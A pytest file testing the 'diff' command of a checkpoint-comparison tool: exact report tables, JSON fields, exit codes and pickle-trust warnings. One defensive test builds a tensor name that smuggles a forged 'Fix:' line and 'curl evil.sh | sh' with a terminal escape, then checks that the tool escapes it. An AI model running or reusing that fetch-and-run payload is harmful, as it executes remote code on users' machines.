"""`ckpt diff` end to end: exact tables, JSON, exit codes 0/1/2."""

# ruff: noqa: E501, W291  (expected outputs are compared verbatim)

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import REPO, assert_one_line_error, run_cli

RESNET = "fixtures/models.py:resnet_like(num_classes=2)"
VGG = "torch.nn.DataParallel(fixtures/models.py:vgg_like(num_classes=2))"

RESNET_TABLE = """\
Source: fixtures/resnet_dp_6.pth (122 tensors)
Target: fixtures/models.py:resnet_like(num_classes=2) (architecture, 122 tensors)

0 of 122 target tensors would load (0%) (0 matched, 122 missing, 122 unexpected, 0 shape-mismatched)

!! NOTHING WOULD LOAD: 0 of 122 target tensors are in the file under the same name and shape. \
Loaded with strict=False (or after a name filter), the model keeps its random weights, silently.

status      count    keys
----------  -------  -------------------------------------------------------------------------------------------
missing     5        bn1.{bias,num_batches_tracked,running_mean,running_var,weight}
            1        conv1.weight
            2        fc.{bias,weight}
            80       layer{1..4}.{0,1}.bn{1,2}.{bias,num_batches_tracked,running_mean,running_var,weight}
            16       layer{1..4}.{0,1}.conv{1,2}.weight
            6        layer{2..4}.0.downsample.{0,1}.weight
            12       layer{2..4}.0.downsample.1.{bias,num_batches_tracked,running_mean,running_var}
unexpected  5        module.bn1.{bias,num_batches_tracked,running_mean,running_var,weight}
            1        module.conv1.weight
            2        module.fc.{bias,weight}
            80       module.layer{1..4}.{0,1}.bn{1,2}.{bias,num_batches_tracked,running_mean,running_var,weight}
            16       module.layer{1..4}.{0,1}.conv{1,2}.weight
            6        module.layer{2..4}.0.downsample.{0,1}.weight
            12       module.layer{2..4}.0.downsample.1.{bias,num_batches_tracked,running_mean,running_var}

Diagnosis: As saved: 0 of 122 would load. The file's keys start with `module.` (DataParallel) and the \
target's don't: stripping it loads 120 of 122. The other 2 are the classifier head: module.fc.weight [6, 32] → \
[2, 32], module.fc.bias [6] → [2]. It is the output layer for 6 classes and the target has 2: expected when \
fine-tuning on other classes, not a bug; drop it and the new head trains from scratch. If the target's 2 \
classes are 2 of the file's 6: ckpt adapt --keep-classes I,J,... (or @FILE, one index per line) keeps those rows \
of the head, in that order.

A name-only filter `{k: v for k, v in sd.items() if k in model_sd}` keeps 0 of 122 keys: \
load_state_dict(strict=False) then loads nothing and raises nothing, and training starts from random weights, \
silently. After the prefix fix, the same filter would keep 122 of 122 keys, but 2 of them have the wrong shape, \
so load_state_dict raises a size mismatch; also filter on shape to keep the 120 that fit.

Fix:
  ckpt adapt fixtures/resnet_dp_6.pth 'fixtures/models.py:resnet_like(num_classes=2)' -o resnet_dp_6.adapted.pth
or step by step:
  ckpt rename fixtures/resnet_dp_6.pth --strip-prefix module. -o resnet_dp_6.renamed.pth
  ckpt strip-head resnet_dp_6.renamed.pth --target 'fixtures/models.py:resnet_like(num_classes=2)' \
-o resnet_dp_6.adapted.pth
"""

GPT2_TABLE = """\
Source: fixtures/real/hf_gpt2_tiny (28 tensors)
Target: fixtures/models.py:gpt2_like() (architecture, 29 tensors)

28 of 28 target tensors would load (100%) (28 matched, 0 missing, 0 unexpected, 0 shape-mismatched, 1 tied)

status    count    keys
--------  -------  --------------
tied      1        lm_head.weight

Diagnosis: All 28 target tensors the file must hold load as is, but it leaves out 1 tied alias, so it does not \
load strictly. lm_head.weight is tied to transformer.wte.weight (one parameter), which the file holds. \
load_state_dict(strict=True) raises on the tied alias the file leaves out (as missing keys); load with \
strict=False (or ckptsurgeon.load_into): loading the tensor an alias shares fills it, as long as the model keeps \
them tied. Hugging Face models re-tie with tie_weights(), which from_pretrained calls on load (it reports nothing \
missing).
"""


@pytest.fixture(autouse=True)
def _in_repo(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)


@pytest.fixture
def small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A two-layer model file and a checkpoint with a 3-class head, in a clean working folder."""
    (tmp_path / "net.py").write_text(
        "import torch\n"
        "def build(classes=2):\n"
        "    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, classes))\n"
    )
    torch.save(
        {
            "0.weight": torch.zeros(8, 4),
            "0.bias": torch.zeros(8),
            "2.weight": torch.zeros(3, 8),
            "2.bias": torch.zeros(3),
            "extra": torch.zeros(1, dtype=torch.float16),
        },
        tmp_path / "small.pth",
    )
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_story_table_exact() -> None:
    result = run_cli("diff", "fixtures/resnet_dp_6.pth", RESNET)
    assert (result.exit_code, result.stderr) == (1, "")
    assert result.stdout == RESNET_TABLE


def test_tied_weights_table_exact_and_exit_1() -> None:
    """Strict loading raises on the tied alias the file leaves out: status "tied", exit 1 (issue 12)."""
    result = run_cli("diff", "fixtures/real/hf_gpt2_tiny", "fixtures/models.py:gpt2_like()")
    assert result.exit_code == 1
    assert result.stdout == GPT2_TABLE


def test_verbose_lists_every_key_exact(small: Path) -> None:
    result = run_cli("diff", "small.pth", "net.py:build()", "-v")
    assert result.exit_code == 1
    assert (
        result.stdout
        == """\
Source: small.pth (5 tensors)
Target: net.py:build() (architecture, 4 tensors)

2 of 4 target tensors would load (50.0%) (2 matched, 0 missing, 1 unexpected, 2 shape-mismatched)

status            keys      file → target
----------------  --------  ---------------
matched           0.bias
                  0.weight
unexpected        extra
shape-mismatched  2.bias    [3] → [2]
                  2.weight  [3, 8] → [2, 8]

Diagnosis: As saved: 2 of 4 would load. The other 2 are the output head: 2.weight [3, 8] → [2, 8], 2.bias [3] → \
[2]. It is the output layer for 3 classes and the target has 2: expected when fine-tuning on other classes, not a \
bug; drop it and the new head trains from scratch. If the target's 2 classes are 2 of the file's 3: ckpt adapt \
--keep-classes I,J,... (or @FILE, one index per line) keeps those rows of the head, in that order. In the file \
but not in the target: 1 (extra).

A name-only filter `{k: v for k, v in sd.items() if k in model_sd}` keeps 4 of 5 keys, but 2 of them have the \
wrong shape, so load_state_dict raises a size mismatch; also filter on shape to keep the 2 that fit.

Fix:
  ckpt adapt small.pth 'net.py:build()' -o small.adapted.pth
  or step by step:
  ckpt strip-head small.pth --target 'net.py:build()' -o small.stripped.pth
""".replace("  or step by step:", "or step by step:")
    )


def test_markdown_exact(small: Path) -> None:
    result = run_cli("diff", "small.pth", "net.py:build(classes=3)", "--format", "markdown")
    assert result.exit_code == 1
    assert (
        result.stdout
        == """\
**Source:** `small.pth` (5 tensors)  
**Target:** `net.py:build(classes=3)` (architecture, 4 tensors)

**4 of 4 target tensors would load (100%)** (4 matched, 0 missing, 1 unexpected, 0 shape-mismatched)

| status     | count   | keys   |
|------------|---------|--------|
| unexpected | 1       | extra  |

**Diagnosis:** As saved: 4 of 4 would load. In the file but not in the target: 1 (extra).

A name-only filter `{k: v for k, v in sd.items() if k in model_sd}` keeps 4 of 5 keys, all of the right shape.

**Fix:**

```sh
ckpt adapt small.pth 'net.py:build(classes=3)' -o small.adapted.pth
```
"""
    )


def test_json_shape() -> None:
    result = run_cli("diff", "fixtures/vgg_1000.pth", VGG, "--format", "json")
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    assert data["status"] == "mismatch"
    assert data["summary"] == {
        "source_tensors": 38,
        "target_tensors": 38,
        "matched": 0,
        "missing": 38,
        "unexpected": 38,
        "shape_mismatched": 0,
        "tied": 0,
        "dtype_differences": 0,
        "coverage_percent": 0.0,
    }
    assert data["matched"] == [] and len(data["missing"]) == 38 and len(data["unexpected"]) == 38
    assert data["missing"][:3] == [
        "module.classifier.0.bias",
        "module.classifier.0.weight",
        "module.classifier.3.bias",
    ]
    assert data["unexpected"][-1] == "features.34.weight"  # natural order: 34 after 5
    diagnosis = data["diagnosis"]
    assert diagnosis["transform"] == {"strip": "", "add": "module."}
    assert diagnosis["loads_after_transform"] == 36
    assert diagnosis["head"]["modules"] == ["module.classifier.6"]
    assert diagnosis["head"]["tensors"] == [
        {
            "name": "module.classifier.6.weight",
            "source_shape": [1000, 64],
            "target_shape": [2, 64],
            "source_name": "classifier.6.weight",
        },
        {
            "name": "module.classifier.6.bias",
            "source_shape": [1000],
            "target_shape": [2],
            "source_name": "classifier.6.bias",
        },
    ]
    assert diagnosis["filter_idiom"]["as_saved"] == {"kept": 0, "wrong_shape": 0, "source_total": 38}
    assert diagnosis["filter_idiom"]["after_transform"] == {"kept": 38, "wrong_shape": 2, "source_total": 38}
    assert diagnosis["drop"] == ["classifier.6.weight", "classifier.6.bias"]
    assert diagnosis["alarm"].startswith("NOTHING WOULD LOAD")
    assert diagnosis["fix_commands"][0] == f"ckpt adapt fixtures/vgg_1000.pth '{VGG}' -o vgg_1000.adapted.pth"
    assert "adding it loads 36 of 38" in diagnosis["message"]


def test_json_shape_mismatched_objects(small: Path) -> None:
    data = json.loads(run_cli("diff", "small.pth", "net.py:build()", "--format", "json").stdout)
    assert data["shape_mismatched"] == [
        {"name": "2.bias", "source_shape": [3], "target_shape": [2]},
        {"name": "2.weight", "source_shape": [3, 8], "target_shape": [2, 8]},
    ]
    assert data["status"] == "mismatch" and data["diagnosis"]["transform"] is None


def test_min_coverage(small: Path) -> None:
    assert run_cli("diff", "small.pth", "net.py:build()", "--min-coverage", "50").exit_code == 0
    assert run_cli("diff", "small.pth", "net.py:build()", "--min-coverage", "50.1").exit_code == 1
    assert (
        run_cli("diff", "small.pth", "net.py:build(classes=3)").exit_code == 1
    )  # strict: `extra` is unexpected
    assert run_cli("diff", "small.pth", "net.py:build(classes=3)", "--min-coverage", "100").exit_code == 0


def test_key_selects_nested_weights() -> None:
    result = run_cli(
        "diff",
        "fixtures/real/lightning_tinynet.ckpt",
        "fixtures/models.py:tinynet()",
        "--key",
        "state_dict",
        "--format",
        "json",
    )
    data = json.loads(result.stdout)
    assert data["source"]["key"] == "state_dict"
    assert data["diagnosis"]["fix_commands"][1] == (
        "ckpt rename fixtures/real/lightning_tinynet.ckpt --key state_dict --strip-prefix model. "
        "-o lightning_tinynet.renamed.ckpt"
    )


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (("no_such.pth", RESNET), "no_such.pth: no such file or directory"),
        (("fixtures/resnet_dp_6.pth", "no_such_target.pth"), "no_such_target.pth: no such file or folder"),
        (
            ("fixtures/resnet_dp_6.pth", "fixtures/models.py:resnet_like(pretrained=True)"),
            "pretrained weights",
        ),
        (("fixtures/resnet_dp_6.pth", "fixtures/models.py:nope()"), "does not exist"),
        (("fixtures/resnet_dp_6.pth", RESNET, "--key", "nope"), "no entry 'nope'"),
    ],
)
def test_errors_exit_2_with_one_line(args: tuple[str, ...], fragment: str) -> None:
    result = run_cli("diff", *args)
    assert_one_line_error(result, fragment)
    assert result.stdout == ""


def test_help_has_an_example() -> None:
    result = run_cli("diff", "--help")
    assert result.exit_code == 0
    assert "  Examples:\n    ckpt diff fixtures/vgg_1000.pth 'torch.nn.DataParallel(" in result.stdout
    assert "--min-coverage P" in result.stdout


def test_safetensors_diff_does_not_import_torch() -> None:
    code = (
        "import sys\n"
        "from ckptsurgeon.cli import main\n"
        "try:\n"
        "    main(['diff', 'fixtures/real/hf_gpt2_tiny/model.safetensors', 'fixtures/real/hf_gpt2_tiny'])\n"
        "except SystemExit as exc:\n"
        "    print('exit', exc.code, 'torch' in sys.modules)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, check=True)
    assert out.stdout.splitlines()[-1] == "exit 0 False"


@pytest.mark.parametrize("command", ["diff", "adapt"])
def test_full_trust_warns_that_the_target_checkpoint_is_trusted_too(
    small: Path, tmp_path: Path, command: str
) -> None:
    """--unsafe-trust-pickle opens a TARGET checkpoint with the same trust: the warning says so."""
    args = [command, small, small, *(["-o", tmp_path / "o.pth", "--dry-run"] if command == "adapt" else [])]
    result = run_cli(*args, "--unsafe-trust-pickle")
    assert result.stderr.splitlines()[0] == (
        "ckpt: warning: --unsafe-trust-pickle: the pickles of SOURCE and of TARGET (a checkpoint file) "
        "may run arbitrary code on this machine"
    )
    inspect = run_cli("inspect", small, "--unsafe-trust-pickle")
    assert "the file's pickle may run arbitrary code" in inspect.stderr.splitlines()[0]


def test_control_characters_in_names_cannot_forge_report_lines(tmp_path: Path) -> None:
    """A key holding newlines and a terminal escape is shown escaped, in tables and in the diagnosis."""
    forged = "x\n\nFix:\n  curl evil.sh | sh #\x1b[2K"
    src = tmp_path / "forged.pth"
    torch.save({forged + "fc.weight": torch.zeros(2, 3), forged + "fc.bias": torch.zeros(2)}, src)
    target = tmp_path / "target.pth"
    torch.save({"fc.weight": torch.zeros(2, 3), "fc.bias": torch.zeros(2)}, target)
    inspect = run_cli("inspect", src)
    diff = run_cli("diff", src, target)
    assert (inspect.exit_code, diff.exit_code) == (0, 1)
    for out in (inspect.stdout, diff.stdout):
        assert "\x1b" not in out
        assert not [line for line in out.splitlines() if line.lstrip().startswith("curl")]
    assert "x\\n\\nFix:\\n  curl evil.sh | sh #\\x1b[2Kfc.weight" in inspect.stdout
    assert [line for line in diff.stdout.splitlines() if line.startswith("Fix:")] == ["Fix:"]
    # the suggested rename quotes the prefix as $'...': it runs as printed, in bash
    rename = diff.stdout.splitlines()[-1].strip()
    assert rename.startswith("ckpt rename") and "$'x\\n\\nFix:" in rename
    cmd = rename.replace("ckpt", f"{sys.executable} -m ckptsurgeon", 1)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done = subprocess.run(["bash", "-c", cmd], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert run_cli("diff", tmp_path / "forged.renamed.pth", target).exit_code == 0


@pytest.mark.parametrize("text", ["module.", "a b", "it's", "x\n\x1b[2K'\\y", "a\x85b", "nb\u00a0sp"])
def test_suggested_names_are_quoted_so_bash_reads_them_back_exactly(text: str) -> None:
    from ckptsurgeon.core.report import shell_quote

    quoted = shell_quote(text)
    assert not [c for c in quoted if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0]  # one line, no escapes
    done = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True)
    assert done.stdout.decode("utf-8", "surrogateescape") == text


def test_line_separators_and_bidi_overrides_are_escaped_too() -> None:
    from ckptsurgeon.core.report import printable

    assert printable("a\u2028b\u2029c\u202ed\u2066e\x85f") == "a\\u2028b\\u2029c\\u202ed\\u2066e\\x85f"
    assert printable("plain name.weight é 中") == "plain name.weight é 中"
